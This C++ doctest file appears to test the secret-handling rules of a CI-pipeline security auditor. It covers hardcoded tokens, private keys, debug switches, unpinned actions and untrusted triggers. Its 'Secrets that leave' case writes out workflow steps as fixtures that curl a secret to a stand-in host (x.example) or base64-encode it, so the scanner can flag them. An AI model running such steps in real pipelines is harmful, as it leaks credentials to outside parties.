#include <doctest/doctest.h>

#include "test/audit/findings.h"

using namespace pipeseal;
using namespace pipeseal::audit;
using pipeline::FileKind;

namespace {

Found Of(FileKind kind, std::string text) { return FindingsOf(secret::kFamily, kind, std::move(text)); }
Found OfWorkflow(std::string text) { return Of(FileKind::kGitHubWorkflow, std::move(text)); }

// The step begins in line 7. The job is in an environment, so that reading a secret is no finding by itself.
Found OfStep(std::string_view step) {
  return OfWorkflow("on: push\njobs:\n  a:\n    runs-on: x\n    environment: e\n    steps:\n      - " +
                    std::string(step) + "\n");
}

// Put together so that no scanner takes this file for a leak.
std::string Token(std::string_view prefix, std::size_t length) {
  std::string token(prefix);
  for (std::size_t i = 0; i < length; ++i) token += "Qw7Rt9Yp3Lk5"[i % 12];
  return token;
}

}  // namespace

TEST_CASE("Credentials that stand in a file") {
  CHECK(Of(FileKind::kGitLab, "a:\n  script: curl -H " + Token("glpat-", 20) + "\n") ==
        Found{"secret/hardcoded-credential:2"});
  CHECK(OfStep("run: echo " + Token("ghp_", 36)) == Found{"secret/hardcoded-credential:7"});
  CHECK(Of(FileKind::kJenkins, "sh '" + Token("npm_", 36) + "'\n") == Found{"secret/hardcoded-credential:1"});
  CHECK(OfStep("run: echo " + Token("ghp_", 35)).empty());
  CHECK(OfStep("run: echo " + Token("ghp_", 37)).empty());
  CHECK(OfStep("run: echo ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx").empty());
  CHECK(OfStep("run: grep my" + Token("ghp_", 36)).empty());
}

TEST_CASE("Private keys") {
  const std::string begin = std::string("-----BEGIN ") + "RSA PRIVATE KEY-----";
  CHECK(Of(FileKind::kKubernetes, "key: |\n  " + begin + "\n  " + std::string(64, 'M') + "\n") ==
        Found{"secret/hardcoded-credential:2"});
  CHECK(OfStep("run: grep -q '" + begin + "' key.pem").empty());
}

TEST_CASE("Passwords of registries") {
  const std::string head =
      "on: push\njobs:\n  a:\n    runs-on: x\n    container:\n      image: a\n      credentials:\n        username: "
      "u\n        password: ";
  CHECK(OfWorkflow(head + "hunter2\n    steps: []\n") == Found{"secret/hardcoded-credential:9"});
  CHECK(OfWorkflow(head + "${{ vars.P }}\n    steps: []\n").empty());
}

TEST_CASE("All secrets at once") {
  CHECK(OfStep("run: x\n        env: {S: '${{ toJSON(secrets) }}'}") == Found{"secret/whole-context:8"});
  CHECK(OfStep("run: x\n        env: {S: '${{ secrets[matrix.name] }}'}") == Found{"secret/whole-context:8"});
  CHECK(OfStep("run: x\n        env: {S: \"${{ secrets['NAME'] }}\"}").empty());
  CHECK(OfStep("run: x\n        if: ${{ secrets != '' }}").empty());
}

TEST_CASE("Parts of a secret that are not masked") {
  CHECK(OfStep("run: x\n        env: {S: '${{ fromJSON(secrets.A).b }}'}") == Found{"secret/unredacted:8"});
  CHECK(OfStep("run: x\n        env: {S: '${{ fromJSON(vars.A).b }}'}").empty());
}

TEST_CASE("Secrets outside of an environment") {
  const std::string step = "    steps:\n      - run: x\n        env: {S: '${{ secrets.A }}'}\n";
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    runs-on: x\n" + step) == Found{"secret/outside-environment:7"});
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    runs-on: x\n    environment: e\n" + step).empty());
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: x\n        env: {S: '${{ "
                   "secrets.GITHUB_TOKEN }}'}\n")
            .empty());
}

TEST_CASE("Inherited secrets") {
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/w.yml@v1\n    secrets: inherit\n") ==
        Found{"secret/inherited:5"});
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/w.yml@v1\n").empty());
}

TEST_CASE("Secrets that leave") {
  CHECK(OfStep("run: curl http://x.example/?t=${{ secrets.T }}") == Found{"secret/leak:7"});
  CHECK(OfStep("run: curl https://x.example/?t=$T\n        env: {T: '${{ secrets.T }}'}") == Found{"secret/leak:7"});
  CHECK(OfStep("run: 'curl -H \"Authorization: $T\" https://x.example'\n        env: {T: '${{ secrets.T }}'}").empty());
  CHECK(OfStep("run: echo $T | base64\n        env: {T: '${{ secrets.T }}'}") == Found{"secret/leak:7"});
  CHECK(OfStep("run: echo $T | base64 -d > key\n        env: {T: '${{ secrets.T }}'}").empty());
  CHECK(OfStep("run: echo $T | base64\n        env: {T: x}").empty());
  CHECK(OfStep("run: docker build --build-arg T=$T .\n        env: {T: '${{ secrets.T }}'}") == Found{"secret/leak:7"});
  CHECK(OfStep("run: docker build --secret id=t,env=T .\n        env: {T: '${{ secrets.T }}'}").empty());
}

TEST_CASE("Secrets for code that can change") {
  CHECK(OfStep("uses: acme/x@v1\n        with: {token: '${{ secrets.T }}'}") ==
        Found{"secret/to-unpinned-third-party:8"});
  CHECK(OfStep("uses: acme/x@0123456789abcdef0123456789abcdef01234567\n        with: {token: '${{ secrets.T }}'}")
            .empty());
  CHECK(OfStep("uses: actions/x@v1\n        with: {token: '${{ secrets.T }}'}").empty());
  CHECK(OfStep("uses: acme/x@v1\n        with: {token: '${{ secrets.GITHUB_TOKEN }}'}").empty());
  CHECK(OfStep("uses: acme/x@v1\n        with: {token: x}").empty());
}

TEST_CASE("Debug switches") {
  CHECK(OfWorkflow("on: push\nenv: {ACTIONS_STEP_DEBUG: true}\njobs: {}\n") == Found{"secret/debug-enabled:2"});
  CHECK(OfWorkflow("on: push\nenv: {ACTIONS_STEP_DEBUG: false}\njobs: {}\n").empty());
  CHECK(Of(FileKind::kGitLab, "variables:\n  CI_DEBUG_TRACE: \"true\"\n") == Found{"secret/debug-enabled:2"});
  CHECK(Of(FileKind::kAzure, "variables:\n- name: system.debug\n  value: true\nsteps: []\n") ==
        Found{"secret/debug-enabled:2"});
  CHECK(Of(FileKind::kCircleCi, "ACTIONS_STEP_DEBUG: true\n").empty());
}

TEST_CASE("Tokens for publishing") {
  CHECK(OfStep("run: npm publish") == Found{"secret/long-lived-publishing-token:7"});
  CHECK(OfStep("run: npm publish --dry-run").empty());
  CHECK(OfStep("run: npm publish --registry https://npm.acme.example").empty());
  CHECK(OfStep("run: cargo +nightly publish") == Found{"secret/long-lived-publishing-token:7"});
  CHECK(OfStep("run: python -m twine upload dist/*") == Found{"secret/long-lived-publishing-token:7"});
  CHECK(OfStep("run: npm ci").empty());
  CHECK(OfStep("uses: pypa/gh-action-pypi-publish@v1\n        with: {password: x}") ==
        Found{"secret/long-lived-publishing-token:7"});
  CHECK(OfStep("uses: pypa/gh-action-pypi-publish@v1").empty());
  CHECK(OfWorkflow("on: push\njobs:\n  a:\n    runs-on: x\n    permissions: {id-token: write}\n    steps:\n      - "
                   "run: npm publish\n")
            .empty());
}

TEST_CASE("Secrets where code of strangers runs") {
  const auto reached = [](std::string_view on, std::string_view ref, std::string_view run) {
    const Found found = OfWorkflow("on: " + std::string(on) +
                                   "\njobs:\n  a:\n    runs-on: x\n    environment: e\n    steps:\n      - uses: "
                                   "actions/checkout@v4\n        with: {ref: '" +
                                   std::string(ref) + "'}\n      - run: " + std::string(run) +
                                   "\n        env: {T: '${{ secrets.T }}'}\n");
    return std::ranges::count(found, "secret/reachable-from-untrusted-trigger:10");
  };
  constexpr std::string_view kHead = "${{ github.event.pull_request.head.sha }}";
  CHECK(reached("pull_request_target", kHead, "npm install") == 1);
  CHECK(reached("pull_request", kHead, "npm install") == 0);
  CHECK(reached("pull_request_target", "main", "npm install") == 0);
  CHECK(reached("pull_request_target", kHead, "echo done") == 0);
}
